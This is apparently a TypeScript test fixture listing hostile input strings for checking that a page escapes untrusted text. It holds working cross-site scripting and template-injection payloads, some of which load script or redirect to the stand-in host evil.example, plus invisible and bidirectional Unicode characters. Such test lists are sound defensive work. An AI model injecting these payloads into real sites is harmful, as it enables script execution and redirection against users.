/** Texts that run, hide or turn something around where a page takes text for anything else. Each says `hacked()` if it may. */

const elements = [
  '<script>hacked()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '</title><script>hacked()</script>',
  '</textarea><script>hacked()</script>',
  '</style><script>hacked()</script>',
  '--><script>hacked()</script>',
  ']]><script>hacked()</script>',
  '<img src=x onerror=hacked()>',
  '<img src=`x` onerror=hacked()>',
  '<img/src/onerror=hacked()>',
  '<svg onload=hacked()>',
  '<svg><script>hacked()</script></svg>',
  '<svg><animate onbegin=hacked() attributeName=x>',
  '<svg><set onbegin=hacked() attributename=x to=1>',
  '<math><mi xlink:href="javascript:hacked()">x</mi></math>',
  '<iframe src="javascript:hacked()"></iframe>',
  '<iframe srcdoc="<script>hacked()</script>"></iframe>',
  '<object data="javascript:hacked()"></object>',
  '<embed src="javascript:hacked()">',
  '<body onload=hacked()>',
  '<input autofocus onfocus=hacked()>',
  '<select autofocus onfocus=hacked()>',
  '<details open ontoggle=hacked()>x</details>',
  '<video><source onerror=hacked()></video>',
  '<audio src=x onerror=hacked()>',
  '<marquee onstart=hacked()>x</marquee>',
  '<a href="javascript:hacked()">x</a>',
  '<a href="data:text/html,<script>hacked()</script>">x</a>',
  '<form action="javascript:hacked()"><button>x</button></form>',
  '<button formaction="javascript:hacked()">x</button>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>*{display:none}</style>',
  '<template><script>hacked()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=hacked()>">',
];
const attributes = [
  '" onmouseover="hacked()',
  "' onmouseover='hacked()",
  '` onmouseover=`hacked()',
  '"><img src=x onerror=hacked()>',
  "'><svg/onload=hacked()>",
  'javascript:hacked()',
  'JaVaScRiPt:hacked()',
  'data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==',
];
const templates = [
  '{{constructor.constructor("hacked()")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is to stay as it is
  '${hacked()}',
  '<%= hacked() %>',
  '&lt;script&gt;hacked()&lt;/script&gt;',
  '&#60;script&#62;hacked()&#60;/script&#62;',
  '%3Cscript%3Ehacked()%3C/script%3E',
  '__proto__',
];
/** What would move, hide or turn around the text beside it. */
const invisible = ['abc\u202Edcb', '\u2066x\u2069', 'a\u200Bb', 'a\uFEFFb', 'a\u061Cb', 'a\u00ADb'];

export const hostileTexts: readonly string[] = [...elements, ...attributes, ...templates, ...invisible];

/** As the console shows such a text: with what is invisible made visible. */
export function shown(text: string): string {
  return text.replace(
    /[\u00AD\u061C\u200B\u202E\u2066\u2069\uFEFF]/g,
    (one) => `\\u{${one.charCodeAt(0).toString(16)}}`,
  );
}
